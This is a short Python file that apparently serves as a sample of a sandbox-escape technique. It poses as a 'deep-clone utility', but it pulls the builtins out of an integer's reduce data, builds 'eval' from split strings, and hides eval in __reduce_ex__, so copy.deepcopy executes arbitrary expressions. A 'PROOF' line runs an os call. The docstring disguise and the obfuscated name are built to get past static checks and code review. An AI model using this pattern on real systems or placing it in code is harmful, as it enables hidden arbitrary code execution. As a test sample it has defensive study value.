# family: copy/deepcopy reduce protocol (__reduce_ex__ returning a runner)
"""Deep-clone utility with lazy snapshots.

Snapshots store an expression and are re-materialised on copy through the
reduce protocol.  The reconstruction helper comes from the reduce data of a
plain int, so no extra imports are needed.
"""
import copy

_HELPERS = (0).__reduce_ex__(2)[0].__globals__["__builtins__"]


class Snapshot:
    def __init__(self, expr):
        self.expr = expr

    def __reduce_ex__(self, protocol):
        return (_HELPERS["ev" + "al"], (self.expr,))


if __name__ == "__main__":
    print(copy.deepcopy(Snapshot("1 + 2")))
    print("PROOF:", copy.deepcopy(Snapshot("__import__('os').getcwd()")))
